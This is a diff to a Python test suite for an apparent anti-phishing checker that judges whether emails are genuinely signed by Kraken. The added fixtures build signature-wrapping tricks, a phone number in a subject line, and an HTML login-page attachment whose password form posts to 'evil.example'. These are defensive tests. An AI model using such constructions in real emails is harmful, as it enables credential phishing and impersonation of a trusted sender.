@@ -9,7 +9,7 @@ import pytest
 from kraken_guard.core.email.pgp_signature import KrakenKey
 from kraken_guard.core.email.reading import read_email, read_email_file
 from kraken_guard.core.email.verdict import HEADLINES, EmailVerdict, check_email
-from tests.email_corpus.build_corpus import CORPUS, HERE, YAHOO_TOP
+from tests.email_corpus.build_corpus import CORPUS, GENUINE_BODY, HERE, YAHOO_TOP
 from tests.email_corpus.signing import NO_PROVIDER_TOP, signed_email, signing_key
 
 EXPECTED = {
@@ -44,7 +44,7 @@ def test_no_forgery_is_ever_trusted_even_with_kraken_key_saved(path: Path) -> No
 
 
 def test_genuine_mail_from_each_provider_says_strong_but_not_proof() -> None:
-    for provider in ("gmail", "outlook", "yahoo", "icloud", "fastmail"):
+    for provider in ("gmail", "outlook", "yahoo", "icloud", "fastmail", "proton"):
         result = check_email(read_email_file(HERE / f"genuine_{provider}.eml"))
         text = " ".join(result.reason_texts())
         assert "not proof" in text, provider
@@ -128,7 +128,8 @@ def test_the_real_pinned_fingerprint_never_accepts_the_test_key() -> None:
     data = signed_email(key, top=NO_PROVIDER_TOP)
     result = check_email(read_email(data), kraken_keys=_saved())  # the product's pinned one
     assert result.verdict is EmailVerdict.CANNOT_TELL
-    assert "has not been added" in " ".join(result.reason_texts())
+    # The signature names its maker, so another key is told apart without Kraken's key.
+    assert "made by another key" in result.reason_texts()[0]
 
 
 def test_a_valid_signature_does_not_cover_a_lookalike_sender() -> None:
@@ -272,3 +273,128 @@ def test_a_never_ask_request_makes_every_path_not_from_kraken(name: str) -> None
     result = check_email(read_email(text.encode()))
     assert result.verdict is EmailVerdict.NOT_FROM_KRAKEN
     assert "recovery phrase" in " ".join(result.reason_texts())
+
+
+def _wrapped(inner_signed: bytes, extra_part: str, outer: str = "multipart/mixed") -> bytes:
+    """The signed email's body, put inside another multipart beside an unsigned part."""
+    head, _, body = inner_signed.partition(b"\r\n\r\n")
+    signed_type = head.split(b"Content-Type: ", 1)[1].split(b"\r\n", 1)[0]
+    top = head.split(b"Content-Type: ", 1)[0]
+    return (
+        top
+        + f'Content-Type: {outer}; boundary="outer-1"\r\n\r\n'.encode()
+        + b"--outer-1\r\nContent-Type: "
+        + signed_type
+        + b"\r\n\r\n"
+        + body
+        + b"\r\n--outer-1\r\n"
+        + extra_part.replace("\n", "\r\n").encode()
+        + b"\r\n--outer-1--\r\n"
+    )
+
+
+UNSIGNED_ZIP = (
+    'Content-Type: application/zip; name="statement.zip"\n'
+    'Content-Disposition: attachment; filename="statement.zip"\n'
+    "Content-Transfer-Encoding: base64\n\nUEsDBAoAAAAAAA==\n"
+)
+UNSIGNED_TEXT = "Content-Type: text/plain; charset=utf-8\n\nYour statement is attached.\n"
+LOGIN_PAGE = (
+    'Content-Type: text/html; name="Kraken_Login.html"\n'
+    'Content-Disposition: attachment; filename="Kraken_Login.html"\n\n'
+    '<html><body><form action="https://evil.example/p"><input type="password" name="pw">'
+    "</form></body></html>\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("extra", "outer"),
+    [
+        (UNSIGNED_ZIP, "multipart/mixed"),
+        (UNSIGNED_TEXT, "multipart/mixed"),
+        (UNSIGNED_TEXT, "multipart/alternative"),
+    ],
+)
+def test_kraken_signature_over_part_of_the_email_is_never_signed_by_kraken(
+    extra: str, outer: str
+) -> None:
+    key = signing_key()
+    data = _wrapped(signed_email(key), extra, outer)
+    result = check_email(read_email(data), kraken_keys=_saved(), pinned=key.fingerprint)
+    assert not result.trusting
+    assert "covers only part" in " ".join(result.reason_texts())
+
+
+def test_a_signed_part_beside_a_login_page_attachment_is_not_from_kraken() -> None:
+    key = signing_key()
+    data = _wrapped(signed_email(key), LOGIN_PAGE)
+    result = check_email(read_email(data), kraken_keys=_saved(), pinned=key.fingerprint)
+    assert result.verdict is EmailVerdict.NOT_FROM_KRAKEN
+    assert any(f.kind == "attachment" and f.decisive for f in result.findings)
+
+
+def test_a_third_part_inside_multipart_signed_withholds_trust() -> None:
+    key = signing_key()
+    data = signed_email(key).replace(
+        b"\r\n--kraken-signed-7f3a--",
+        b"\r\n--kraken-signed-7f3a\r\nContent-Type: text/plain\r\n\r\nHello again\r\n"
+        b"--kraken-signed-7f3a--",
+    )
+    result = check_email(read_email(data), kraken_keys=_saved(), pinned=key.fingerprint)
+    assert not result.trusting
+
+
+def _clearsigned(key: object, before: str = "") -> bytes:
+    import pysequoia
+
+    text = pysequoia.sign(
+        key.secret.signer(),  # type: ignore[attr-defined]
+        b"Hello,\n\nYour withdrawal was confirmed.\n\nKraken\n",
+        mode=pysequoia.SignatureMode.CLEAR,
+    ).decode("utf-8")
+    return CORPUS["genuine_gmail.eml"].replace(GENUINE_BODY, before + text).encode("utf-8")
+
+
+def test_a_clearsigned_email_is_signed_only_when_the_block_is_all_of_its_text() -> None:
+    key = signing_key()
+    whole = check_email(read_email(_clearsigned(key)), kraken_keys=_saved(), pinned=key.fingerprint)
+    assert whole.verdict is EmailVerdict.SIGNED_BY_KRAKEN
+    outside = _clearsigned(key, before="Urgent: your account is on hold.\n\n")
+    part = check_email(read_email(outside), kraken_keys=_saved(), pinned=key.fingerprint)
+    assert not part.trusting
+    assert "covers only part" in " ".join(part.reason_texts())
+
+
+def test_a_number_or_link_in_the_subject_of_a_signed_email_withholds_trust() -> None:
+    key = signing_key()
+    data = signed_email(key).replace(
+        b"Subject: Your call with Kraken Support",
+        b"Subject: Withdrawal on hold - call +1 888 416 0932",
+    )
+    result = check_email(read_email(data), kraken_keys=_saved(), pinned=key.fingerprint)
+    assert not result.trusting
+    assert any(f.kind == "number" for f in result.findings)
+
+
+def test_an_attachment_withholds_a_provider_pass_and_says_so() -> None:
+    data = _wrapped_plain(CORPUS["genuine_gmail.eml"], UNSIGNED_ZIP)
+    result = check_email(read_email(data))
+    assert result.verdict is EmailVerdict.CANNOT_TELL
+    assert "statement.zip" in result.reason_texts()[0]
+
+
+def test_a_password_form_in_the_email_itself_is_not_from_kraken() -> None:
+    from tests.email_corpus.build_corpus import GMAIL_TOP, html_message
+
+    page = '<html><body><form><input type="password" name="p"></form></body></html>\n'
+    result = check_email(read_email(html_message(GMAIL_TOP, page).encode("utf-8")))
+    assert result.verdict is EmailVerdict.NOT_FROM_KRAKEN
+
+
+def _wrapped_plain(text: str, extra: str) -> bytes:
+    head, _, body = text.partition("\n\n")
+    head = head.replace(
+        'Content-Type: text/plain; charset="UTF-8"', 'Content-Type: multipart/mixed; boundary="b1"'
+    )
+    text_part = f"--b1\nContent-Type: text/plain; charset=utf-8\n\n{body}\n"
+    return f"{head}\n\n{text_part}--b1\n{extra}\n--b1--\n".encode()
